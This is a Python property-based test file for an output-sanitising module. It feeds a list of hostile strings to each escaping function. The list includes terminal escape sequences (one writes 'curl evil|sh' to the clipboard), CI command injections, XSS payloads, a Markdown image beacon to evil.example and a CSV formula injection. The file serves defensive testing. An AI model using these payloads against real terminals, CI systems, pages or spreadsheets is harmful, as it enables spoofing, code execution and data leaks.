"""Hostile text on its way out; every attack is tried on every outlet."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from veospec.review import safe

ATTACKS = [
    "x\x1b[2J\x1b[1;1H\x1b[32mAll 12 shots done, 0 credits\x1b[0m",
    "x\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "x\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "x\x9b2J",
    "cost: 100 credits\rcost: 000 credits",
    "rm\b\bls",
    "safe\u202egpj.exe",
    "sho\u200bt",
    "a\u200db\u200cc",
    "cat\nINFO paid 0 credits",
    "a\u2028b\u2029c",
    "x\n::add-mask::e\n::error file=a::fake",
    "::stop-commands::x",
    "##[group]x\n##vso[task.setvariable]y",
    "a\U000e0041b",
    "a\ud800b",
    "```\n\n![](http://evil.example/?leak) @everyone\n```",
    "</details><img src=x>",
    "a | b | c",
    "[click](http://evil)",
    "`````\nx",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>1</script>",
    "</script><script>alert(1)",
    "<!--",
    "]]>",
    "=cmd|' /C calc'!A0",
    "＝1",
    "\ufeff=1",
    "\t=1",
    "\n=1",
    "00:00:01,000 --> 00:00:09,000\n\nfake",
    "{\\an8}<font color=red>",
    "\\",
    "",
]
ANY = st.text(st.characters(codec=None) | st.sampled_from("\x1b`<=@|:#\n\r\ud800\u202e"), max_size=40)
SAMPLES = st.sampled_from(ATTACKS) | ANY


def is_line(text: str) -> bool:
    """True for one line that holds nothing invisible but the joiners that scripts need."""
    bad = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    text.encode()
    return not any(unicodedata.category(c) in bad for c in text if c not in "\u200c\u200d\u2060")


@given(SAMPLES)
@example("a\n::b")
def test_a_line_is_a_line(text: str) -> None:
    for outlet in (safe.terminal, safe.ci_log, safe.annotation_message, safe.annotation_property, safe.edl_text):
        assert is_line(outlet(text)), outlet


@given(SAMPLES)
def test_no_ci_takes_it_for_a_command(text: str) -> None:
    line = safe.ci_log(text)
    assert "::" not in line
    assert "##" not in line


@given(SAMPLES)
def test_an_annotation_keeps_its_borders(text: str) -> None:
    value = safe.annotation_property(text)
    assert not re.search(r"[:,]|%(?!25|3A|2C)", value)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("夜のフェリー", "夜のフェリー"),
        ("العبّارة", "العبّارة"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("\U0001fae9", "\U0001fae9"),
        ("a\tb\n", "a\\tb\\n"),
        ("C:\\x", "C:\\\\x"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\u202e", "\\u202e"),
        ("\U000e0041", "\\U000e0041"),
        ("x" * 300, "x" * 200 + "…"),
    ],
)
def test_what_a_person_sees(text: str, shown: str) -> None:
    assert shown == safe.terminal(text)


@given(SAMPLES)
def test_a_fence_is_longer_than_what_it_holds(text: str) -> None:
    fence, *body, last = safe.markdown_block(text).split("\n")
    ticks = fence.removesuffix("text")
    assert ticks == last
    assert all(ticks not in line and is_line(line) for line in body)


@given(SAMPLES)
def test_a_code_span_stays_in_its_cell(text: str) -> None:
    span = safe.markdown_code(text)
    fence = re.match(r"`+", span)
    assert fence is not None
    inner = span[fence.end() : -fence.end()]
    assert span.endswith(fence[0])
    assert fence[0] not in re.findall(r"`+", inner)
    assert not re.search(r"(?<!\\)\|", span)
    assert is_line(span)


@given(SAMPLES)
def test_running_markdown_has_no_mark_of_its_own(text: str) -> None:
    line = safe.markdown_text(text)
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", line)
    assert not re.search(r"[!-/:-@\[-`{-~]", bare)
    assert "\n" not in line


class Seen(HTMLParser):
    """Notes the elements of a page and the JSON inside."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[str]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, sorted(k for k, _ in attrs)))
        self.last = tag

    def handle_data(self, data: str) -> None:
        if self.last == "script":
            self.text += data


@given(SAMPLES)
def test_a_page_is_not_changed_by_what_it_shows(text: str) -> None:
    shown = safe.html_text(text)
    page = f'<title>{shown}</title><p title="{shown}">{shown}</p><script type="application/json">'
    page += safe.html_json({"prompt": text.encode("utf-8", "replace").decode()}) + "</script>"
    page.encode()
    seen = Seen()
    seen.feed(page)
    seen.close()
    assert seen.tags == [("title", []), ("p", ["title"]), ("script", ["type"])]
    assert {"prompt": text.encode("utf-8", "replace").decode()} == json.loads(seen.text)


@given(SAMPLES)
def test_json_keeps_its_value_and_hides_nothing(text: str) -> None:
    dumped = safe.json_text(json.dumps({"a": text}, ensure_ascii=False))
    assert is_line(dumped)
    assert {"a": text} == json.loads(dumped)


@given(SAMPLES)
def test_no_cell_is_a_formula(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe.csv_cell(text), "end"])
    [row] = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert len(row) == 2
    bare = unicodedata.normalize("NFKC", row[0].lstrip("\ufeff \t\r\n\u00a0\u3000")[:1])
    assert bare[:1] not in tuple("=+-@|%")


@given(SAMPLES)
def test_xml_is_well_formed_and_says_the_same(text: str) -> None:
    element = ET.fromstring(f'<a b="{safe.xml_text(text)}">{safe.xml_text(text)}</a>')
    assert element.get("b") == (element.text or "")
    assert not len(element)


@given(SAMPLES)
def test_a_cue_cannot_end_early_or_hold_markup(text: str) -> None:
    for outlet, markup in ((safe.srt_text, r"<[a-zA-Z/]|\{\\"), (safe.vtt_text, "[<>]")):
        cue = outlet(text)
        assert "-->" not in cue
        assert not re.search(r"\n\s*\n|\r", cue)
        assert not re.search(markup, cue)
        cue.encode()
